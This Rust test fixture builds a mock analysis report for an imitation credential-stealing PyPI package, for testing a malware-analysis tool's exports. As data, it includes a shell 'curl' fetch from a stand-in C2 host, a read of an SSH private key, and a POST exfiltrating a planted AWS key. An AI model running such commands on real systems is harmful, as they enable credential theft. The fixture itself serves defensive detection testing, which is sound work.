//! A report as `ossprey analyze` makes it for an imitation of a credential stealer,
//! built by hand so the export tests cover every dynamic field without a sandbox.

use std::collections::BTreeMap;

use ossprey_model::dynamic::{
    Connection, DnsQuery, DynamicResult, Exec, FileAccess, HitHow, HoneytokenHit, Honeytokens,
    HttpRequest, Isolation, Network, Output, PhaseReport, PhaseStatus, PlantedToken, Process,
    Socket,
};
use ossprey_model::{
    Category, Ecosystem, Evidence, Finding, PackageRef, Report, Severity, Verdict,
};

fn phase(status: PhaseStatus, exit_code: Option<i32>) -> PhaseReport {
    PhaseReport {
        status,
        error: None,
        duration_ms: 1200,
        command: vec!["python3".into(), "-m".into(), "pip".into()],
        exit_code,
        exit_signal: None,
        processes: Vec::new(),
        files: Vec::new(),
        sockets: Vec::new(),
        network: Network::default(),
        stdout: Output::default(),
        stderr: Output::default(),
        isolation: Isolation::default(),
    }
}

fn socket(address: &str, port: u16, hostnames: &[&str], op: &str) -> Socket {
    Socket {
        pid: 7,
        op: op.into(),
        family: "inet".into(),
        address: address.into(),
        port: Some(port),
        hostnames: hostnames.iter().map(|h| (*h).to_owned()).collect(),
        result: Some(0),
        time_ms: 10,
    }
}

fn dns(hostname: &str, qtype: &str) -> DnsQuery {
    DnsQuery {
        hostname: hostname.into(),
        qtype: qtype.into(),
        resolver: "10.0.2.3".into(),
        transport: "udp".into(),
        answer: Some("198.18.0.5".into()),
        time_ms: 5,
    }
}

fn connection(address: &str, port: u16, hostname: Option<&str>, kind: &str) -> Connection {
    Connection {
        protocol: "tcp".into(),
        address: address.into(),
        port,
        hostname: hostname.map(str::to_owned),
        kind: kind.into(),
        time_ms: 20,
        duration_ms: 3,
        bytes_total: 100,
        bytes_prefix_base64: String::new(),
        bytes_prefix_text: None,
        truncated: false,
        http: Vec::new(),
        tls_sni: None,
        tls_alpn: Vec::new(),
    }
}

/// `pypi:evil@1.0`, judged malicious, with install and import phases.
pub fn analysed_malicious() -> Report {
    let mut install = phase(PhaseStatus::Completed, Some(0));
    install.stdout = Output {
        text: "hello\n".into(),
        total_bytes: 6,
        truncated: false,
    };
    install.files = vec![
        FileAccess {
            path: "/home/u/.ssh/id_rsa".into(),
            read: true,
            succeeded: true,
            pids: vec![7],
            ..FileAccess::default()
        },
        FileAccess {
            path: "/tmp/payload.sh".into(),
            create: true,
            succeeded: true,
            pids: vec![7],
            ..FileAccess::default()
        },
    ];
    install.sockets = vec![
        socket("198.18.0.5", 443, &["c2.evil.example"], "connect"),
        socket("198.18.0.5", 443, &["c2.evil.example"], "send"),
        socket("203.0.113.7", 4444, &[], "connect"),
        socket("0.0.0.0", 8000, &[], "bind"),
        // A DNS query to the sandbox's resolver: the reference lists it like any
        // socket, but it is not an indicator.
        socket("10.0.2.3", 53, &[], "send"),
    ];
    let mut environment = BTreeMap::new();
    environment.insert("HOME".to_owned(), "/home/u".to_owned());
    install.processes = vec![Process {
        pid: 7,
        ppid: 1,
        command: vec!["/bin/sh".into(), "-c".into(), "curl".into()],
        execs: vec![Exec {
            path: "/bin/sh".into(),
            argv: vec![
                "/bin/sh".into(),
                "-c".into(),
                "curl http://c2.evil.example/x".into(),
            ],
            environment,
            ok: true,
        }],
        cwd: Some("/work".into()),
        exit_code: Some(0),
        exit_signal: None,
        outlived_main: false,
        killed_at_end: false,
    }];
    install.network.dns = vec![
        dns("c2.evil.example", "A"),
        dns("c2.evil.example", "AAAA"),
        dns("c2.evil.example", "A"),
    ];
    let mut http = connection("198.18.0.6", 80, Some("drop.evil.example"), "http");
    http.http = vec![HttpRequest {
        method: "POST".into(),
        host: Some("drop.evil.example".into()),
        path: "/collect".into(),
        headers: vec![("Host".into(), "drop.evil.example".into())],
        body_base64: "QUtJQQ==".into(),
        body_text: Some("AKIA".into()),
        body_len: 4,
        body_truncated: false,
    }];
    let mut tls = connection("198.18.0.5", 443, Some("c2.evil.example"), "tls");
    tls.tls_sni = Some("c2.evil.example".into());
    let raw = connection("203.0.113.7", 4444, None, "raw");
    install.network.connections = vec![http, tls, raw];

    let import = phase(PhaseStatus::Completed, Some(1));

    let dynamic = DynamicResult {
        install: Some(install),
        import: Some(import),
        execute: None,
        runtime: Some("bookworm-1".into()),
        notes: Vec::new(),
        honeytokens: Honeytokens {
            planted: vec![PlantedToken {
                kind: "aws_access_key_id".into(),
                path: None,
                env: Some("AWS_ACCESS_KEY_ID".into()),
                prefix: "AKIA".into(),
            }],
            hits: vec![HoneytokenHit {
                kind: "aws_access_key_id".into(),
                how: HitHow::Egress,
                phase: "install".into(),
                path: None,
                env: Some("AWS_ACCESS_KEY_ID".into()),
                encoding: Some("raw".into()),
                channel: Some("http".into()),
                location: Some("body".into()),
                destination: Some("198.18.0.6:80".into()),
                hostname: Some("drop.evil.example".into()),
                pid: None,
                process: None,
                succeeded: None,
                time_ms: 21,
                token_prefix: "AKIA".into(),
            }],
            notes: Vec::new(),
        },
    };

    let mut report = Report::new("evil-1.0.tar.gz");
    report.package = Some(PackageRef {
        ecosystem: Ecosystem::Pypi,
        name: "evil".into(),
        version: Some("1.0".into()),
    });
    report.sha256 = Some("ab".repeat(32));
    report.verdict = Some(Verdict::Malicious);
    report.score = Some(9.5);
    report.findings = vec![
        Finding {
            rule: "EXEC-DECODED-PAYLOAD".into(),
            severity: Severity::Critical,
            category: Category::EXECUTION,
            message: "setup.py executes a decoded payload at install time".into(),
            evidence: Evidence {
                file: Some("setup.py".into()),
                line: Some(3),
                snippet: Some("requests.post('https://static.evil.example/k', d)".into()),
                event: None,
            },
            notes: Vec::new(),
        },
        Finding {
            rule: "HONEYTOKEN-EGRESS".into(),
            severity: Severity::Critical,
            category: Category::EXFILTRATION,
            message: "a planted AWS key left the sandbox".into(),
            evidence: Evidence {
                event: Some(
                    serde_json::json!({"destination": "198.18.0.6:80", "url": "http://drop.evil.example/collect"}),
                ),
                ..Evidence::default()
            },
            notes: Vec::new(),
        },
    ];
    report.dynamic = Some(dynamic);
    report.duration_ms = 2500;
    report
}
